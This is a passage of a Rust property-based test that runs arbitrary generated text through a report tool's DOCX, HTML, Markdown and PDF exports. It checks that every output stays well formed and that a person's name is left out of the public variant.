    text.clone_into(&mut session.header.location);
    session.synthesis.observations.bullets[0].text = format!("Anna de Vries zei: {text}");
    session.experiments.push(Experiment {
        id: ExperimentId::new("e-1"),
        organisation: OrgId::new("o-2"),
        title: "Proef".into(),
        keywords: vec![Keyword {
            id: KeywordId::new("k-1"),
            text: text.to_owned(),
            tags: Vec::new(),
            highlighted: false,
        }],
        notes: Vec::new(),
    });
    session
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn any_text_goes_through_every_export_and_every_file_stays_well_formed(text in hostile_text()) {
        let session = session_holding(&text);
        let shown = squeezed(&leerkring::model::clean::clean(&text));
        for public in [false, true] {
            let options = ExportOptions::new(public);
            let docx = report::render(&session, Format::Docx, &options).expect("docx");
            for part in ["word/document.xml", "docProps/core.xml", "docProps/app.xml"] {
                assert_well_formed_xml(&docx_part(&docx, part));
            }
            let html = String::from_utf8(report::render(&session, Format::Html, &options).expect("html"))
                .expect("UTF-8");
            assert_well_formed_html(&html);
            let markdown =
                String::from_utf8(report::render(&session, Format::Markdown, &options).expect("md"))
                    .expect("UTF-8");
            prop_assert!(!markdown.chars().any(|c| c.is_control() && c != '\n'), "control characters in the Markdown");
            let pdf = report::render(&session, Format::Pdf, &options).expect("pdf");
            let tail = &pdf[pdf.len().saturating_sub(16)..];
            prop_assert!(pdf.starts_with(b"%PDF-") && tail.windows(5).any(|w| w == b"%%EOF"));
            if !public && !shown.is_empty() {
                // The text comes through as it was (cleaned of control characters).
                prop_assert!(squeezed(&docx_text(&docx)).contains(&shown), "DOCX lost {:?}", text);
                prop_assert!(squeezed(&html_text(&html)).contains(&shown), "HTML lost {:?}", text);
                prop_assert!(squeezed(&markdown_text(&markdown)).contains(&shown), "Markdown lost {:?}", text);
            }
            if public {
                let visible = format!("{}{}{}", docx_text(&docx), html_text(&html), markdown);
                prop_assert!(!visible.contains("Anna de Vries"), "a name in the public variant");
            }
        }
    }
}
